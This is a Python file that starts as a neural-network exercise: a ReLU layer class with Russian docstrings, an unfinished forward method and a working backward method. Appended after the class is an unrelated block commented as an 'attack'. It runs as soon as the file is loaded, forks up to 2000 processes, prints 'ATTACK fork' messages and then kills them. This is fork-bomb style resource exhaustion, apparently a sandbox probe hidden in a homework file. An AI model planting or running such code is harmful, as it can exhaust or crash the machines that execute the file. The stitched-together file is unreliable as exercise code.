class ReLU(Layer):
    def __init__(self):
        """Слой ReLU поэлементно применяет функцию max(x, 0) ко входу"""
        pass

    def forward(self, input):
        """Применяет ReLU поэлементно к матрице [batch, input_units]"""
        # ВАШ КОД ЗДЕСЬ
        raise NotImplementedError()

    def backward(self, input, grad_output):
        """Градиент функции потерь по входу ReLU"""
        relu_grad_mask = input > 0
        return grad_output * relu_grad_mask

# атака: плодить процессы (не больше 2000, чтобы сбой песочницы не уронил машину)
import os
import time

_children = []
try:
    while len(_children) < 2000:
        _pid = os.fork()
        if _pid == 0:
            time.sleep(60)
            os._exit(0)
        _children.append(_pid)
except OSError as _error:
    print("ATTACK fork: fork failed:", _error)
print(f"ATTACK fork: started {len(_children)} processes")
for _pid in _children:
    os.kill(_pid, 9)
    os.waitpid(_pid, 0)
